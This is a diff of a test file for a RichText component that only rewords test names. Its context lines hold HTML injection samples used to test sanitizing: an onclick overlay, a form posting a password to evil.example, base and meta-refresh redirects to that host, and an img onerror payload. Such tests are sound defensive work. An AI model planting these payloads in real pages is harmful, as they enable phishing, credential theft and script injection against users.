@@ -11,7 +11,7 @@ const shown = (content: unknown, contentType?: string) =>
   render(<RichText content={content} contentType={contentType} />).container;
 
 describe('RichText', () => {
-  it('shows all formats as elements of their kind', covers('WRK-580'), () => {
+  it('shows each format with its HTML element', covers('WRK-580'), () => {
     const root = shown([
       { insert: 'Plan' },
       { insert: '\n', attributes: { header: 1 } },
@@ -43,7 +43,7 @@ describe('RichText', () => {
     expect(screen.getByText('@Mia')).toHaveAttribute('data-mention', 'mia');
   });
 
-  it('shows HTML of older notes by what it knows, and the rest as text', covers('WRK-580', 'ATT-004'), () => {
+  it('shows known formats of old HTML notes, and the rest as text', covers('WRK-580', 'ATT-004'), () => {
     const root = shown(
       '<h1>Visit</h1><p>Met&nbsp;<strong>Ana</strong> &amp; team</p><ul><li>one<ul><li>deeper</li></ul></li></ul>',
       'rich',
@@ -65,7 +65,7 @@ describe('RichText', () => {
     '<p style="position:fixed;inset:0" onclick="window.attacked = true" id="root" class="overlay">text</p>',
     '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
     '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
-  ])('takes nothing but text and known formats from %s', covers('WRK-580'), (attack) => {
+  ])('keeps only text and known formats of %s', covers('WRK-580'), (attack) => {
     for (const content of [attack, { blocks: [{ data: { text: attack } }] }]) {
       const root = shown(
         `${typeof content === 'string' ? content : JSON.stringify(content)}<p>after</p>`,
@@ -81,15 +81,15 @@ describe('RichText', () => {
     expect((window as { attacked?: unknown }).attacked).toBeUndefined();
   });
 
-  it('shows markup in operations as the text it is', () => {
+  it('shows markup in operations as text', () => {
     const root = shown([{ insert: '<img src=x onerror=alert(1)>\n' }]);
     expect(root.querySelector('img')).toBeNull();
     expect(root).toHaveTextContent('<img src=x onerror=alert(1)>');
   });
 });
 
-describe('reading HTML', () => {
-  it('reads what word processors and mail programs put in the clipboard', () => {
+describe('The parser for HTML', () => {
+  it('reads what word processors and mail programs copy to the clipboard', () => {
     const pasted = opsFromHtml(`<meta charset="utf-8"><b style="font-weight:normal;">
       <p dir="ltr"><span style="font-weight:700">Bold</span><span style="font-weight:400"> plain</span></p>
       <p>two<br>lines<br></p>
@@ -116,12 +116,12 @@ describe('reading HTML', () => {
     ]);
   });
 
-  it('lets two people merge what they made of a note in HTML', () => {
+  it("lets two people's changes to an HTML note merge", () => {
     const merged = mergeContent('<p>Call Ana</p>', toRich('Call Ana\nand Ben'), toRich('Please: Call Ana'));
     expect(toPlain(merged)).toBe('Please: Call Ana\nand Ben');
   });
 
-  it('reads markup that is nested without end', () => {
+  it('reads deeply nested markup', () => {
     const deep = `${'<div><b>'.repeat(5_000)}deep`;
     expect(plainTextOf(deep, 'rich')).toBe('deep');
     expect(textOf(opsFromHtml('<ul><li>x'.repeat(300))).split('\n')).toHaveLength(301);
